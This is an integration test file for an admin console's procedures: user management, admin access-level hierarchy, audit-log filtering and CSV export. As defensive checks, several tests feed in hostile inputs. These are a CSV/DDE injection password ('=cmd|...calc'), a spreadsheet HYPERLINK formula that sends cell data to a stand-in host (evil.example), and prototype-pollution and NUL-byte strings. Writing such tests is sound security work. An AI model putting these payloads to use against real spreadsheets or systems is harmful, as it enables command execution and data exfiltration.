// The admin console's procedures over HTTP, on PGlite and a real PostgreSQL.
import { afterAll, beforeAll, expect, it } from "vitest";
import { hashPassword } from "../../server/auth/password.ts";
import { createSession } from "../../server/auth/session.ts";
import { endExpiredSuspensions } from "../../server/services/admin/users.ts";
import { createUser } from "../../server/services/users/create-user.ts";
import { describeEachDatabase } from "../helpers/db.ts";
import { freshIp, latestMail, startTestApp, trpcError, type TestApp, type TestClient } from "../helpers/app.ts";

const PASSWORD = "correct horse battery staple";
let seq = 0;
const uniq = () => `${++seq}-${Math.random().toString(36).slice(2, 7)}`;

describeEachDatabase("admin console", (t) => {
  let app: TestApp;
  let hash: string;
  let superAdmin: { id: string; email: string; c: TestClient };
  beforeAll(async () => {
    app = await startTestApp(t.db);
    hash = await hashPassword(PASSWORD);
    superAdmin = await signedIn("ADMIN", 3);
  });
  afterAll(() => app?.close());

  async function make(role: "TRAINEE" | "INSTRUCTOR" | "COMPANY" | "ADMIN" = "TRAINEE", level?: number, name?: string) {
    const email = `${role.toLowerCase()}-${uniq()}@example.com`;
    const u = await createUser(t.prisma, { email, passwordHash: hash, role, name: name ?? `${role} ${seq}`, ...(level ? { adminAccessLevel: level } : {}) });
    return { id: u.id, email };
  }
  async function signedIn(role: "TRAINEE" | "INSTRUCTOR" | "COMPANY" | "ADMIN", level?: number) {
    const u = await make(role, level);
    const c = app.client();
    await c.signIn(u.email, PASSWORD);
    return { ...u, c };
  }

  it("pages through users with keyset cursors, filters and searches", async () => {
    const tag = `pager${uniq()}`;
    for (let i = 0; i < 23; i++) await make("TRAINEE", undefined, `${tag} ${String(i).padStart(2, "0")}`);
    const seen: string[] = [];
    let cursor: string | undefined;
    let pages = 0;
    do {
      const page = await superAdmin.c.trpc.admin.users.list.query({ search: tag, limit: 10, cursor });
      seen.push(...page.users.map((u) => u.name!));
      cursor = page.nextCursor ?? undefined;
      pages++;
    } while (cursor);
    expect(pages).toBe(3);
    expect(seen).toHaveLength(23);
    expect(new Set(seen).size).toBe(23);
    expect(seen).toEqual([...seen].sort().reverse()); // newest first = created last first
    const byEmail = await superAdmin.c.trpc.admin.users.list.query({ search: tag.toUpperCase(), sort: "email", direction: "asc", limit: 5 });
    expect(byEmail.users.map((u) => u.email)).toEqual([...byEmail.users.map((u) => u.email)].sort());
    const companies = await superAdmin.c.trpc.admin.users.list.query({ role: "COMPANY" });
    expect(companies.users.every((u) => u.role === "COMPANY")).toBe(true);
    expect(JSON.stringify(byEmail)).not.toMatch(/password|failedLoginAttempts|lockedUntil/);
  });

  it("shows a user's detail: profile, role profile, sessions and recent events", async () => {
    const u = await signedIn("COMPANY");
    const d = await superAdmin.c.trpc.admin.users.get.query({ userId: u.id });
    expect(d).toMatchObject({ id: u.id, email: u.email, role: "COMPANY", companyProfile: { isVerified: false } });
    expect(d.sessions).toHaveLength(1);
    expect(d.recentEvents.map((e) => e.action)).toContain("SIGN_IN");
    expect(JSON.stringify(d)).not.toMatch(/"password":|sessionToken|failedLoginAttempts|lockedUntil|access_token/);
    expect((await trpcError(superAdmin.c.trpc.admin.users.get.query({ userId: "nope" }))).data?.code).toBe("NOT_FOUND");
  });

  it("promotes a trainee to instructor with a reason, creating the instructor profile", async () => {
    const u = await make("TRAINEE");
    const noReason = await trpcError(superAdmin.c.trpc.admin.users.setRole.mutate({ userId: u.id, role: "INSTRUCTOR", reason: "" }));
    expect(noReason.data?.fieldErrors?.reason?.[0]).toMatch(/reason/i);
    expect(await superAdmin.c.trpc.admin.users.setRole.mutate({ userId: u.id, role: "INSTRUCTOR", reason: "Passed the teaching review" })).toEqual({ role: "INSTRUCTOR", changed: true });
    const row = await t.prisma.user.findUniqueOrThrow({ where: { id: u.id }, select: { role: true, instructorProfile: { select: { id: true } }, progress: { select: { id: true } } } });
    expect(row.role).toBe("INSTRUCTOR");
    expect(row.instructorProfile).not.toBeNull();
    expect(row.progress).not.toBeNull(); // the old role's data is kept
    const log = await t.prisma.auditLog.findFirstOrThrow({ where: { targetUserId: u.id, action: "ROLE_CHANGED" }, select: { userId: true, details: true } });
    expect(log).toEqual({ userId: superAdmin.id, details: { from: "TRAINEE", to: "INSTRUCTOR", reason: "Passed the teaching review" } });
  });

  it("refuses an admin changing their own role, and demoting, suspending or deleting the last active admin", async () => {
    const self = await trpcError(superAdmin.c.trpc.admin.users.setRole.mutate({ userId: superAdmin.id, role: "TRAINEE", reason: "testing self" }));
    expect(self.data?.appCode).toBe("SELF_ACTION");
    expect((await trpcError(superAdmin.c.trpc.admin.users.delete.mutate({ userId: superAdmin.id }))).data?.appCode).toBe("SELF_ACTION");
    // Leave one active admin ("solo"); the acting admin of the checks below is another, inactive one.
    const solo = await make("ADMIN", 3);
    const actingId = (await make("ADMIN", 3)).id;
    const restore = await t.prisma.user.findMany({ where: { role: "ADMIN", status: "ACTIVE", id: { not: solo.id } }, select: { id: true } });
    await t.prisma.user.updateMany({ where: { id: { in: restore.map((r) => r.id) } }, data: { status: "DEACTIVATED" } });
    try {
      const { setRole, suspendUser, deleteUser } = await import("../../server/services/admin/users.ts");
      const actor = { userId: actingId, meta: { ipAddress: null, userAgent: null } };
      await expect(setRole(t.prisma, actor, { userId: solo.id, role: "TRAINEE", reason: "rotation" })).rejects.toThrow(/last active admin/);
      await expect(suspendUser(t.prisma, actor, { userId: solo.id, reason: "rotation" })).rejects.toThrow(/last active admin/);
      await expect(deleteUser(t.prisma, actor, { userId: solo.id })).rejects.toThrow(/last active admin/);
      expect((await t.prisma.user.findUniqueOrThrow({ where: { id: solo.id }, select: { role: true, status: true } }))).toEqual({ role: "ADMIN", status: "ACTIVE" });
    } finally {
      await t.prisma.user.updateMany({ where: { id: { in: restore.map((r) => r.id) } }, data: { status: "ACTIVE" } });
    }
    // With another admin active again, demotion is allowed.
    await expect(superAdmin.c.trpc.admin.users.setRole.mutate({ userId: solo.id, role: "TRAINEE", reason: "rotation" })).resolves.toMatchObject({ changed: true });
  });

  it("suspends a signed-in user (their next request fails), ends a dated suspension, and reactivates", async () => {
    const u = await signedIn("TRAINEE");
    expect(await u.c.trpc.profile.get.query()).toMatchObject({ email: u.email });
    const past = await trpcError(superAdmin.c.trpc.admin.users.suspend.mutate({ userId: u.id, reason: "spam", until: new Date(Date.now() - 1000) }));
    expect(past.data?.code).toBe("BAD_REQUEST");
    expect(await superAdmin.c.trpc.admin.users.suspend.mutate({ userId: u.id, reason: "Posting spam", until: new Date(Date.now() + 3600_000) })).toEqual({ sessionsEnded: 1 });
    expect((await trpcError(u.c.trpc.profile.get.query())).data?.code).toBe("UNAUTHORIZED");
    expect((await trpcError(app.client().signIn(u.email, PASSWORD))).data?.appCode).toBe("ACCOUNT_SUSPENDED");
    // The end date passes: the job lifts it.
    await t.prisma.user.update({ where: { id: u.id }, data: { suspendedUntil: new Date(Date.now() - 1000) } });
    expect(await endExpiredSuspensions(t.prisma)).toBeGreaterThanOrEqual(1);
    expect((await t.prisma.user.findUniqueOrThrow({ where: { id: u.id }, select: { status: true } })).status).toBe("ACTIVE");
    await superAdmin.c.trpc.admin.users.suspend.mutate({ userId: u.id, reason: "Again" });
    expect(await superAdmin.c.trpc.admin.users.activate.mutate({ userId: u.id })).toEqual({ status: "ACTIVE" });
    await expect(app.client().signIn(u.email, PASSWORD)).resolves.toBeTruthy();
    const actions = (await t.prisma.auditLog.findMany({ where: { targetUserId: u.id, action: { in: ["USER_SUSPENDED", "USER_ACTIVATED"] } }, orderBy: { createdAt: "asc" }, select: { action: true } })).map((a) => a.action);
    expect(actions).toEqual(["USER_SUSPENDED", "USER_ACTIVATED", "USER_SUSPENDED", "USER_ACTIVATED"]);
  });

  it("deletes a user; their audit rows stay with the user set to null", async () => {
    const u = await signedIn("TRAINEE");
    const before = await t.prisma.auditLog.count({ where: { userId: u.id } });
    expect(before).toBeGreaterThan(0);
    expect(await superAdmin.c.trpc.admin.users.delete.mutate({ userId: u.id })).toEqual({ deleted: true });
    expect(await t.prisma.user.count({ where: { id: u.id } })).toBe(0);
    expect(await t.prisma.session.count({ where: { userId: u.id } })).toBe(0);
    const deleted = await t.prisma.auditLog.findFirstOrThrow({ where: { action: "USER_DELETED", userId: superAdmin.id }, orderBy: { createdAt: "desc" }, select: { targetUserId: true, details: true } });
    expect(deleted).toMatchObject({ targetUserId: null, details: { email: u.email, role: "TRAINEE" } });
    expect(await t.prisma.auditLog.count({ where: { action: "SIGN_IN", userId: null, details: { path: ["method"], equals: "password" } } })).toBeGreaterThan(0);
  });

  it("signs a user out everywhere and mails a reset link the admin never sees", async () => {
    const u = await signedIn("TRAINEE");
    expect(await superAdmin.c.trpc.admin.users.signOutEverywhere.mutate({ userId: u.id })).toEqual({ ended: 1 });
    expect(await u.c.trpc.auth.me.query()).toBeNull();
    const r = await superAdmin.c.trpc.admin.users.sendPasswordReset.mutate({ userId: u.id });
    expect(r).toEqual({ sentTo: u.email });
    expect((await latestMail(t.db, u.email, "password-reset"))?.token).toBeTruthy();
    expect(superAdmin.c.bodies.join()).not.toMatch(/reset-password\?token=/);
    expect(await t.prisma.auditLog.count({ where: { targetUserId: u.id, action: { in: ["SESSION_REVOKED", "PASSWORD_RESET_REQUESTED"] }, userId: superAdmin.id } })).toBe(2);
  });

  it("verifies a company and rejects an instructor from the queue, telling each by mail", async () => {
    const co = await make("COMPANY");
    const ins = await make("INSTRUCTOR");
    const queue = await superAdmin.c.trpc.admin.verification.list.query();
    expect(queue.items.map((i) => i.user.id)).toEqual(expect.arrayContaining([co.id, ins.id]));
    expect(queue.items.find((i) => i.user.id === co.id)?.kind).toBe("company");
    expect((await trpcError(superAdmin.c.trpc.admin.verification.decide.mutate({ userId: ins.id, approve: false }))).data?.fieldErrors?.reason).toBeTruthy();
    await superAdmin.c.trpc.admin.verification.decide.mutate({ userId: co.id, approve: true });
    await superAdmin.c.trpc.admin.verification.decide.mutate({ userId: ins.id, approve: false, reason: "Certificates could not be checked" });
    const cp = await t.prisma.companyProfile.findUniqueOrThrow({ where: { userId: co.id }, select: { isVerified: true, verifiedAt: true } });
    expect(cp.isVerified).toBe(true);
    expect(cp.verifiedAt).toBeInstanceOf(Date);
    const ip = await t.prisma.instructorProfile.findUniqueOrThrow({ where: { userId: ins.id }, select: { isVerified: true, rejectionReason: true } });
    expect(ip).toEqual({ isVerified: false, rejectionReason: "Certificates could not be checked" });
    const after = await superAdmin.c.trpc.admin.verification.list.query();
    expect(after.items.map((i) => i.user.id)).not.toContain(co.id);
    expect(after.items.map((i) => i.user.id)).not.toContain(ins.id);
    expect((await latestMail(t.db, co.email))?.kind).toBe("verification-approved");
    expect((await latestMail(t.db, ins.email))?.text).toContain("Certificates could not be checked");
    expect(await t.prisma.auditLog.count({ where: { targetUserId: co.id, action: "PERMISSION_GRANTED" } })).toBe(1);
    expect(await t.prisma.auditLog.count({ where: { targetUserId: ins.id, action: "PERMISSION_REVOKED" } })).toBe(1);
    const trainee = await make("TRAINEE");
    expect((await trpcError(superAdmin.c.trpc.admin.verification.decide.mutate({ userId: trainee.id, approve: true }))).data?.code).toBe("NOT_FOUND");
  });

  it("filters the audit log, pages it newest first, and exports the filter as CSV", async () => {
    const u = await signedIn("TRAINEE");
    for (let i = 0; i < 3; i++) await trpcError(app.client().signIn(u.email, `bad =cmd|' /C calc'!A0 ${i}`));
    const failed = await superAdmin.c.trpc.admin.audit.list.query({ action: "SIGN_IN_FAILED", targetId: u.id, limit: 2 });
    expect(failed.entries).toHaveLength(2);
    expect(failed.entries.every((e) => e.action === "SIGN_IN_FAILED" && e.targetUserId === u.id)).toBe(true);
    const rest = await superAdmin.c.trpc.admin.audit.list.query({ action: "SIGN_IN_FAILED", targetId: u.id, limit: 2, cursor: failed.nextCursor! });
    expect(rest.entries).toHaveLength(1);
    expect(rest.nextCursor).toBeNull();
    const times = [...failed.entries, ...rest.entries].map((e) => e.createdAt.getTime());
    expect(times).toEqual([...times].sort((a, b) => b - a));
    const byIp = await superAdmin.c.trpc.admin.audit.list.query({ ip: u.c.ip });
    expect(byIp.entries.length).toBeGreaterThan(0);
    expect(byIp.entries.every((e) => e.ipAddress === u.c.ip)).toBe(true);
    const future = await superAdmin.c.trpc.admin.audit.list.query({ from: new Date(Date.now() + 86400_000) });
    expect(future.entries).toHaveLength(0);
    expect((await trpcError(superAdmin.c.trpc.admin.audit.list.query({ action: "NOT_AN_ACTION" as "SIGN_IN" }))).data?.code).toBe("BAD_REQUEST");

    const res = await superAdmin.c.fetch(`/api/admin/audit.csv?action=SIGN_IN_FAILED&targetId=${u.id}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/text\/csv/);
    expect(res.headers.get("content-disposition")).toMatch(/attachment; filename="hirexp-audit-/);
    const lines = (await res.text()).trim().split("\n");
    expect(lines[0]).toBe("created_at,action,actor_id,actor_email,target_id,target_email,ip_address,user_agent,details");
    expect(lines).toHaveLength(4);
    expect(lines.slice(1).every((l) => l.includes('"SIGN_IN_FAILED"') && l.includes(u.email))).toBe(true);
    const trainee = await signedIn("TRAINEE");
    expect((await trainee.c.fetch("/api/admin/audit.csv")).status).toBe(403);
    expect((await app.client().fetch("/api/admin/audit.csv")).status).toBe(401);
  });

  it("reports statistics from the user_statistics view, refreshed on demand", async () => {
    const u = await make("TRAINEE");
    const chat = await t.prisma.chatSession.create({ data: { userId: u.id, topic: "Interview", difficulty: "easy", status: "COMPLETED" }, select: { id: true } });
    await t.prisma.evaluation.create({
      data: { userId: u.id, sessionType: "CHAT", sessionId: chat.id, chatSessionId: chat.id, scores: {}, feedback: {}, overallScore: 80 },
      select: { id: true },
    });
    const r = await superAdmin.c.trpc.admin.stats.refresh.mutate();
    expect(r.refreshedAt).toBeInstanceOf(Date);
    const s = await superAdmin.c.trpc.admin.stats.get.query();
    expect(s.lastRefreshedAt?.getTime()).toBe(r.refreshedAt.getTime());
    const trainees = s.activityByRole.find((x) => x.role === "TRAINEE");
    expect(trainees?.avgScore).toBe(80);
    expect(trainees?.totalChats).toBeGreaterThanOrEqual(1);
    expect(s.usersByRoleAndStatus.find((x) => x.role === "ADMIN" && x.status === "ACTIVE")?.count).toBeGreaterThanOrEqual(1);
    expect(s.activeSessions).toBeGreaterThan(0);
    expect(s.signUpsPerDay.reduce((a, d) => a + d.count, 0)).toBe(await t.prisma.user.count());
  });

  it("respects access levels: level 1 views and verifies, level 2 suspends, level 3 changes roles", async () => {
    const l1 = await signedIn("ADMIN", 1);
    const l2 = await signedIn("ADMIN", 2);
    const victim = await make("TRAINEE");
    await expect(l1.c.trpc.admin.users.list.query({})).resolves.toBeTruthy();
    expect((await trpcError(l1.c.trpc.admin.users.suspend.mutate({ userId: victim.id, reason: "nope nope" }))).data?.appCode).toBe("ADMIN_LEVEL");
    await expect(l2.c.trpc.admin.users.suspend.mutate({ userId: victim.id, reason: "allowed now" })).resolves.toBeTruthy();
    expect((await trpcError(l2.c.trpc.admin.users.setRole.mutate({ userId: victim.id, role: "COMPANY", reason: "not allowed" }))).data?.code).toBe("FORBIDDEN");
    expect((await trpcError(l2.c.trpc.admin.users.delete.mutate({ userId: victim.id }))).data?.code).toBe("FORBIDDEN");
    // A demoted admin's next admin call is refused.
    await superAdmin.c.trpc.admin.users.setRole.mutate({ userId: l2.id, role: "TRAINEE", reason: "Left the team" });
    expect((await trpcError(l2.c.trpc.admin.users.list.query({}))).data?.code).toBe("FORBIDDEN");
  });
  // The admin hierarchy (issue 7 #5). Written out by hand: what each admin level gets for each
  // kind of target. "OK" = done; ADMIN_LEVEL = the procedure's own level rule; ADMIN_HIERARCHY =
  // the target is an admin this admin may not act on.
  type Op = "suspend" | "activate" | "signOutEverywhere" | "sendPasswordReset" | "delete" | "setRole";
  type Target = "trainee" | "admin1" | "admin2" | "admin3";
  const HIERARCHY: Record<1 | 2 | 3, Record<Op, Record<Target, "OK" | "ADMIN_LEVEL" | "ADMIN_HIERARCHY">>> = {
    1: {
      suspend: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
      activate: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
      signOutEverywhere: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
      sendPasswordReset: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
      delete: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
      setRole: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
    },
    2: {
      suspend: { trainee: "OK", admin1: "ADMIN_HIERARCHY", admin2: "ADMIN_HIERARCHY", admin3: "ADMIN_HIERARCHY" },
      activate: { trainee: "OK", admin1: "ADMIN_HIERARCHY", admin2: "ADMIN_HIERARCHY", admin3: "ADMIN_HIERARCHY" },
      signOutEverywhere: { trainee: "OK", admin1: "ADMIN_HIERARCHY", admin2: "ADMIN_HIERARCHY", admin3: "ADMIN_HIERARCHY" },
      sendPasswordReset: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "ADMIN_HIERARCHY" },
      delete: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
      setRole: { trainee: "ADMIN_LEVEL", admin1: "ADMIN_LEVEL", admin2: "ADMIN_LEVEL", admin3: "ADMIN_LEVEL" },
    },
    3: {
      suspend: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
      activate: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
      signOutEverywhere: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
      sendPasswordReset: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
      delete: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
      setRole: { trainee: "OK", admin1: "OK", admin2: "OK", admin3: "OK" },
    },
  };

  it("lets an admin act only on users who are not admins above them; suspending or signing out any admin needs level 3", async () => {
    const actors = { 1: await signedIn("ADMIN", 1), 2: await signedIn("ADMIN", 2), 3: await signedIn("ADMIN", 3) };
    const shared = new Map<string, { id: string }>();
    const makeTarget = async (target: Target, suspended: boolean) => {
      const u = target === "trainee" ? await make("TRAINEE") : await make("ADMIN", Number(target.slice(5)));
      if (suspended) await t.prisma.user.update({ where: { id: u.id }, data: { status: "SUSPENDED" }, select: { id: true } });
      await createSession(t.prisma, u.id, { ipAddress: null, userAgent: null });
      return u;
    };
    const got: string[] = [];
    const want: string[] = [];
    for (const level of [1, 2, 3] as const) {
      const c = actors[level].c.trpc.admin.users;
      for (const op of Object.keys(HIERARCHY[level]) as Op[]) {
        for (const target of ["trainee", "admin1", "admin2", "admin3"] as Target[]) {
          const expected = HIERARCHY[level][op][target];
          // A target per call that succeeds; the ones that must be refused (and so stay as they
          // are) are shared, to keep the run short.
          const key = `${target}:${op === "activate" ? "suspended" : "active"}`;
          const u = (expected !== "OK" && shared.get(key)) || (await makeTarget(target, op === "activate"));
          if (expected !== "OK") shared.set(key, u);
          const call = {
            suspend: () => c.suspend.mutate({ userId: u.id, reason: "hierarchy test" }),
            activate: () => c.activate.mutate({ userId: u.id }),
            signOutEverywhere: () => c.signOutEverywhere.mutate({ userId: u.id }),
            sendPasswordReset: () => c.sendPasswordReset.mutate({ userId: u.id }),
            delete: () => c.delete.mutate({ userId: u.id }),
            setRole: () => c.setRole.mutate({ userId: u.id, role: target === "trainee" ? "COMPANY" : "TRAINEE", reason: "hierarchy test" }),
          }[op];
          let answer: string;
          try {
            await call();
            answer = "OK";
          } catch (e) {
            answer = (e as { data?: { appCode?: string } }).data?.appCode ?? String(e);
          }
          got.push(`level ${level} ${op} ${target}: ${answer}`);
          want.push(`level ${level} ${op} ${target}: ${expected}`);
          if (expected !== "OK") {
            // Refused means untouched: same status, role, sessions; nothing audited about it.
            const row = await t.prisma.user.findUniqueOrThrow({ where: { id: u.id }, select: { role: true, status: true, _count: { select: { sessions: true } } } });
            expect([op, target, row]).toEqual([op, target, { role: target === "trainee" ? "TRAINEE" : "ADMIN", status: op === "activate" ? "SUSPENDED" : "ACTIVE", _count: { sessions: 1 } }]);
            expect(await t.prisma.auditLog.count({ where: { targetUserId: u.id, userId: actors[level].id } })).toBe(0);
          }
        }
      }
    }
    expect(got).toEqual(want);
    // The refusal says why.
    const l2 = actors[2].c.trpc.admin.users;
    const boss = await make("ADMIN", 3);
    const refused = await trpcError(l2.suspend.mutate({ userId: boss.id, reason: "coup attempt" }));
    expect(refused.data?.code).toBe("FORBIDDEN");
    expect(refused.message).toMatch(/super admin/i);
  }, 120_000);

  it("starts a re-promoted admin at access level 1, even a former super admin", async () => {
    const former = await signedIn("ADMIN", 3);
    await superAdmin.c.trpc.admin.users.setRole.mutate({ userId: former.id, role: "TRAINEE", reason: "Left the admin team" });
    expect(await superAdmin.c.trpc.admin.users.setRole.mutate({ userId: former.id, role: "ADMIN", reason: "Back on the team" })).toEqual({ role: "ADMIN", changed: true });
    const d = await superAdmin.c.trpc.admin.users.get.query({ userId: former.id });
    expect(d.adminProfile?.accessLevel).toBe(1);
    const again = app.client();
    await again.signIn(former.email, PASSWORD);
    expect((await again.trpc.auth.me.query())?.adminLevel).toBe(1);
    const victim = await make("TRAINEE");
    expect((await trpcError(again.trpc.admin.users.delete.mutate({ userId: victim.id }))).data?.appCode).toBe("ADMIN_LEVEL");
    expect((await trpcError(again.trpc.admin.users.suspend.mutate({ userId: victim.id, reason: "not allowed" }))).data?.appCode).toBe("ADMIN_LEVEL");
  });

  it("shows the user an administrator's actions without the admin's address, device, identity or reason", async () => {
    const adminIp = freshIp();
    const adminUa = "Mozilla/5.0 (X11; Linux x86_64; rv:141.0) Gecko/20100101 Firefox/141.0 AdminWorkstation";
    const admin = await make("ADMIN", 3);
    const ac = app.client({ ip: adminIp, userAgent: adminUa });
    await ac.signIn(admin.email, PASSWORD);
    const u = await signedIn("TRAINEE");
    const secret = "internal: flagged by the fraud team, case 4471";
    await ac.trpc.admin.users.setRole.mutate({ userId: u.id, role: "INSTRUCTOR", reason: `${secret} (role)` });
    await ac.trpc.admin.users.signOutEverywhere.mutate({ userId: u.id });
    await ac.trpc.admin.users.suspend.mutate({ userId: u.id, reason: secret, until: new Date(Date.now() + 86400_000) });
    await ac.trpc.admin.users.activate.mutate({ userId: u.id });
    const c = app.client();
    await c.signIn(u.email, PASSWORD);
    const page = await c.trpc.auth.securityEvents.query();
    const byAdmin = page.events.filter((e) => e.byAdministrator);
    expect(byAdmin.map((e) => e.action)).toEqual(["USER_ACTIVATED", "USER_SUSPENDED", "SESSION_REVOKED", "ROLE_CHANGED"]);
    for (const e of byAdmin) expect([e.action, e.ipAddress, e.device, e.byYou]).toEqual([e.action, null, null, false]);
    expect(byAdmin.find((e) => e.action === "ROLE_CHANGED")?.details).toEqual({ from: "TRAINEE", to: "INSTRUCTOR" });
    expect(byAdmin.find((e) => e.action === "USER_SUSPENDED")?.details).toHaveProperty("until");
    // Nothing about the admin anywhere in what the user received.
    const body = c.bodies.join("\n");
    expect(body).toContain("USER_SUSPENDED");
    for (const leak of [adminIp, "AdminWorkstation", "Firefox 141", "fraud team", admin.id, admin.email]) expect([leak, body.includes(leak)]).toEqual([leak, false]);
    // The user's own sign-in still shows where it came from.
    expect(page.events.find((e) => e.action === "SIGN_IN")?.ipAddress).toBe(c.ip);
    // Admins keep the full record.
    const log = await superAdmin.c.trpc.admin.audit.list.query({ action: "USER_SUSPENDED", targetId: u.id });
    expect(log.entries[0]).toMatchObject({ ipAddress: adminIp, userAgent: adminUa, userId: admin.id, details: { reason: secret } });
    // And the admin's own activity does not list what they did to others as their account's events.
    const mine = await ac.trpc.auth.securityEvents.query();
    expect(mine.events.map((e) => e.action)).not.toContain("USER_SUSPENDED");
  });

  it("answers hostile audit and user filters with a field error, never a 500", async () => {
    const audit = superAdmin.c.trpc.admin.audit.list;
    for (const action of ["toString", "__proto__", "constructor", "hasOwnProperty", "valueOf", "sign_in"]) {
      const e = await trpcError(audit.query({ action: action as "SIGN_IN" }));
      expect([action, e.data?.code, Object.keys(e.data?.fieldErrors ?? {})]).toEqual([action, "BAD_REQUEST", ["action"]]);
    }
    const b64 = (v: unknown) => Buffer.from(typeof v === "string" ? v : JSON.stringify(v)).toString("base64url");
    const cursors = ["!!!not base64!!!", b64("null"), b64("[]"), b64("{"), b64({ v: 1, id: 2 }), b64({ v: "garbage", id: "x" }), b64({ v: "+275760-09-13T00:00:00.000Z", id: "x" }), b64({ v: "2020-01-01T00:00:00.000Z", id: "a\u0000b" })];
    for (const cursor of cursors) {
      const a = await trpcError(audit.query({ cursor }));
      expect([cursor, a.data?.code, a.data?.field]).toEqual([cursor, "BAD_REQUEST", "cursor"]);
      const u = await trpcError(superAdmin.c.trpc.admin.users.list.query({ cursor }));
      expect([cursor, u.data?.code, u.data?.field]).toEqual([cursor, "BAD_REQUEST", "cursor"]);
    }
    const byEmail = await trpcError(superAdmin.c.trpc.admin.users.list.query({ sort: "email", cursor: b64({ v: 5, id: "x" }) }));
    expect(byEmail.data?.field).toBe("cursor");
    const far = new Date(8.64e15);
    const before = new Date(-8.64e15);
    const someone = await make();
    for (const [name, call] of [
      ["from", () => audit.query({ from: before })],
      ["to", () => audit.query({ to: far })],
      ["createdFrom", () => superAdmin.c.trpc.admin.users.list.query({ createdFrom: before })],
      ["createdTo", () => superAdmin.c.trpc.admin.users.list.query({ createdTo: far })],
      ["until", () => superAdmin.c.trpc.admin.users.suspend.mutate({ userId: someone.id, reason: "far future", until: far })],
    ] as const) {
      const e = await trpcError(call());
      expect([name, e.data?.code, Object.keys(e.data?.fieldErrors ?? {})]).toEqual([name, "BAD_REQUEST", [name]]);
    }
    // Text PostgreSQL cannot store (NUL, lone surrogates) is bad input on every procedure, with its field.
    for (const [field, call] of [
      ["actorId", () => audit.query({ actorId: "a\u0000b" })],
      ["search", () => superAdmin.c.trpc.admin.users.list.query({ search: "x\u0000" })],
      ["userId", () => superAdmin.c.trpc.admin.users.get.query({ userId: "\u0000" })],
      ["targetId", () => audit.query({ targetId: "\ud800" })], // a lone surrogate: not storable either
      ["name", () => superAdmin.c.trpc.profile.update.mutate({ name: "Ada\u0000" })],
    ] as const) {
      const e = await trpcError(call());
      expect([field, e.data?.code, e.data?.field]).toEqual([field, "BAD_REQUEST", field]);
    }
    // The CSV export refuses the same filters before it starts.
    for (const q of ["action=toString", "action=__proto__", "from=-271821-04-20T00:00:00.000Z", "to=%2B275760-09-13T00:00:00.000Z", "actorId=a%00b", "ip=%00"]) {
      expect([q, (await superAdmin.c.fetch(`/api/admin/audit.csv?${q}`)).status]).toEqual([q, 400]);
    }
  });

  it("rate-limits statistics refreshes to 3 a minute per admin", async () => {
    const a = await signedIn("ADMIN", 1);
    for (let i = 0; i < 3; i++) await expect(a.c.trpc.admin.stats.refresh.mutate()).resolves.toHaveProperty("refreshedAt");
    const res = await a.c.fetch("/api/trpc/admin.stats.refresh", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" });
    expect(res.status).toBe(429);
    expect(Number(res.headers.get("retry-after"))).toBeGreaterThan(0);
    expect((await trpcError(a.c.trpc.admin.stats.refresh.mutate())).data?.appCode).toBe("RATE_LIMITED");
    expect(await t.prisma.auditLog.count({ where: { userId: a.id, action: "STATS_REFRESHED" } })).toBe(3);
    // Another admin is not held up by it.
    const b = await signedIn("ADMIN", 1);
    await expect(b.c.trpc.admin.stats.refresh.mutate()).resolves.toHaveProperty("refreshedAt");
  });

  it("audits statistics refreshes and CSV exports as their own actions, not as settings changes", async () => {
    const a = await signedIn("ADMIN", 1);
    await a.c.trpc.admin.stats.refresh.mutate();
    expect((await a.c.fetch("/api/admin/audit.csv?action=STATS_REFRESHED")).status).toBe(200);
    const rows = await t.prisma.auditLog.findMany({ where: { userId: a.id, action: { not: "SIGN_IN" } }, orderBy: { createdAt: "asc" }, select: { action: true } });
    expect(rows.map((r) => r.action)).toEqual(["STATS_REFRESHED", "AUDIT_EXPORTED"]);
    const listed = await superAdmin.c.trpc.admin.audit.list.query({ actorId: a.id, action: "AUDIT_EXPORTED" });
    expect(listed.entries).toHaveLength(1);
    expect(listed.entries[0]?.details).toMatchObject({ filter: { action: "STATS_REFRESHED" } });
  });

  it("keeps a cell that starts with a non-breaking space and = as text in the CSV export", async () => {
    const u = await make("TRAINEE");
    const ua = '\u00a0=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const c = app.client({ userAgent: ua });
    await c.signIn(u.email, PASSWORD);
    const res = await superAdmin.c.fetch(`/api/admin/audit.csv?action=SIGN_IN&targetId=${u.id}`);
    const lines = (await res.text()).trim().split("\n");
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`"'\u00a0=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
  });
});
